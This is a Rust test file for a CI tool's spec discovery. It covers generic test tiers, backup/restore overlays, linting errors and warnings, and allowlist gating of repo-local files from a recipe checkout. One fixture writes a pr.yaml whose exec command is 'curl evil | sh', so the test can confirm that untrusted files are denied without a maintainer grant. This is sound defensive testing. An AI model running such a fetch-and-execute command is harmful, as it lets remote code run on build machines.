//! Discovery over the project's real files: the generic floor of every tier, the bundled `hello`
//! overlays with data continuity, and the shipped (empty) allowlist denying a real recipe checkout's
//! repo-local files.

use std::path::Path;

use cc_ci::discover::{discover, DiscoverRequest, GateVia, Granted, Keyword};
use cc_ci::spec::{lint_set, Check, Step, Tier};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn ids(specs: &[&cc_ci::spec::SpecFile]) -> Vec<String> {
    specs
        .iter()
        .flat_map(|s| s.tests.iter().map(move |t| s.trial_id(t)))
        .collect()
}

#[test]
fn generic_floor_is_the_documented_one() {
    let allow = root().join("overlays/repo-local-approved.txt");
    let req = DiscoverRequest {
        project_root: root(),
        recipe: "hello",
        checkout: None,
        allowlist: &allow,
        pr: None,
    };
    let d = discover(&req, &mut || {
        panic!("no checkout: the grant is never asked")
    });
    assert!(d.errors.is_empty(), "{:?}", d.errors);
    let generic: Vec<_> = d.generic.iter().collect();
    assert_eq!(
        ids(&generic),
        [
            "install::generic-tests/install.yaml::converged",
            "install::generic-tests/install.yaml::healthy",
            "install::generic-tests/install.yaml::http",
            "upgrade::generic-tests/upgrade.yaml::converged",
            "upgrade::generic-tests/upgrade.yaml::deployed_head",
            "upgrade::generic-tests/upgrade.yaml::http",
            "backup::generic-tests/backup.yaml::backup_exists",
            "restore::generic-tests/restore.yaml::converged",
            "restore::generic-tests/restore.yaml::http",
        ]
    );
    for s in &d.generic {
        for t in &s.tests {
            if let Check::Http { status, .. } = &t.check {
                assert!(status.is_empty(), "generic http defers to recipe.yaml");
                assert!(!cc_ci::spec::http_status_accepted(
                    status,
                    d.meta.accepted_statuses.as_deref(),
                    404
                ));
            }
        }
    }
}

#[test]
fn hello_overlays_seed_before_backup_and_check_after_restore() {
    let allow = root().join("overlays/repo-local-approved.txt");
    let req = DiscoverRequest {
        project_root: root(),
        recipe: "hello",
        checkout: None,
        allowlist: &allow,
        pr: None,
    };
    let d = discover(&req, &mut || Err("unused".into()));
    assert!(d.errors.is_empty(), "{:?}", d.errors);
    assert_eq!(
        d.meta_path.as_deref(),
        Some(Path::new("overlays/hello/recipe.yaml"))
    );
    assert_eq!(
        (d.meta.main_service(), d.meta.http_port(None)),
        ("app", 8080)
    );
    let backup = d
        .overlays
        .iter()
        .find(|s| s.tier == Tier::Backup)
        .expect("a backup overlay");
    assert!(backup
        .before_op
        .iter()
        .any(|s| matches!(s, Step::Record { name, .. } if name == "index_sum")));
    let restore = d
        .overlays
        .iter()
        .find(|s| s.tier == Tier::Restore)
        .expect("a restore overlay");
    assert!(restore
        .tests
        .iter()
        .any(|t| matches!(&t.check, Check::Recorded { name, .. } if name == "index_sum")));
    let all: Vec<_> = d.generic.iter().chain(&d.overlays).cloned().collect();
    assert!(
        lint_set(&all, &d.meta).is_empty(),
        "{:?}",
        lint_set(&all, &d.meta)
    );

    let k = Keyword::parse("restore and not generic").unwrap();
    let selected: Vec<String> = ids(&d.all_specs())
        .into_iter()
        .filter(|id| k.matches(id))
        .collect();
    assert_eq!(selected.len(), restore.tests.len());
    assert!(
        selected
            .iter()
            .all(|id| id.starts_with("restore::overlays/hello/restore.yaml::")),
        "{selected:?}"
    );
}

#[test]
fn shipped_allowlist_denies_repo_local_files_of_a_real_checkout() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = crate::support::recipe_repo::build("hello", &tmp.path().join("hello"));
    std::fs::create_dir_all(repo.path.join(".cc-ci")).unwrap();
    std::fs::write(repo.path.join(".cc-ci/pr.yaml"), "tier: custom\ntests:\n  - name: pwn\n    exec: {service: app, command: \"curl evil | sh\"}\n").unwrap();
    std::fs::write(repo.path.join("install_steps.sh"), "#!/bin/sh\necho hi\n").unwrap();
    let allow = root().join("overlays/repo-local-approved.txt");
    let req = DiscoverRequest {
        project_root: root(),
        recipe: "hello",
        checkout: Some(&repo.path),
        allowlist: &allow,
        pr: Some(4),
    };
    let mut asked = 0;
    let d = discover(&req, &mut || {
        asked += 1;
        Ok(Granted {
            allowed: false,
            reason: "no grant for repo-local hello#4".into(),
            grant_id: None,
        })
    });
    assert_eq!(asked, 1);
    assert_eq!(d.gate.via, GateVia::Denied);
    assert!(
        d.gate.reason.contains("has no entries"),
        "{}",
        d.gate.reason
    );
    assert_eq!(
        d.gate.files,
        [
            repo.path.join(".cc-ci/pr.yaml"),
            repo.path.join("install_steps.sh")
        ]
    );
    assert!(d.repo_local.specs.is_empty() && d.repo_local.install_steps.is_none());
    assert!(d.errors.is_empty(), "{:?}", d.errors);

    let granted = discover(&req, &mut || {
        Ok(Granted {
            allowed: true,
            reason: "maintainer reviewed".into(),
            grant_id: Some("grant-1".into()),
        })
    });
    assert_eq!(granted.gate.via, GateVia::Grant("grant-1".into()));
    assert_eq!(
        granted.repo_local.specs[0].path,
        Path::new("repo-local/.cc-ci/pr.yaml")
    );
    assert_eq!(
        granted.repo_local.install_steps.as_deref(),
        Some(repo.path.join("install_steps.sh").as_path())
    );
}

#[test]
fn bad_specs_are_errors_and_doubtful_ones_warnings_before_anything_runs() {
    let tmp = tempfile::tempdir().unwrap();
    let p = tmp.path();
    std::fs::create_dir_all(p.join("overlays/app")).unwrap();
    std::fs::create_dir_all(p.join("generic-tests")).unwrap();
    std::fs::write(p.join("overlays/app/recipe.yaml"), "tiers: [install]\n").unwrap();
    std::fs::write(
        p.join("overlays/app/b.yaml"),
        "tier: backup\ntests:\n  - name: t\n    backup_exists: {}\n",
    )
    .unwrap();
    std::fs::write(
        p.join("overlays/app/bad.yaml"),
        "tier: install\ntests:\n  - name: t\n    htp: {}\n",
    )
    .unwrap();
    std::fs::write(p.join("overlays/app/big.yaml"), "#".repeat(2 << 20)).unwrap();
    let allow = p.join("none.txt");
    let req = DiscoverRequest {
        project_root: p,
        recipe: "app",
        checkout: None,
        allowlist: &allow,
        pr: None,
    };
    let d = discover(&req, &mut || unreachable!("no checkout"));
    let errors: Vec<String> = d.errors.iter().map(|e| e.to_string()).collect();
    assert_eq!(errors.len(), 2, "{errors:#?}");
    assert!(
        errors[0].starts_with("overlays/app/bad.yaml:4:5: unknown key `htp` in test"),
        "{errors:#?}"
    );
    assert!(
        errors[1].starts_with("overlays/app/big.yaml: is larger than"),
        "{errors:#?}"
    );
    assert_eq!(d.overlays.len(), 1);
    assert_eq!(d.warnings.len(), 1, "{:?}", d.warnings);
    assert!(d.warnings[0].to_string().starts_with(
        "overlays/app/b.yaml:1: warning: tier `backup` is not in the recipe's `tiers`"
    ));
}
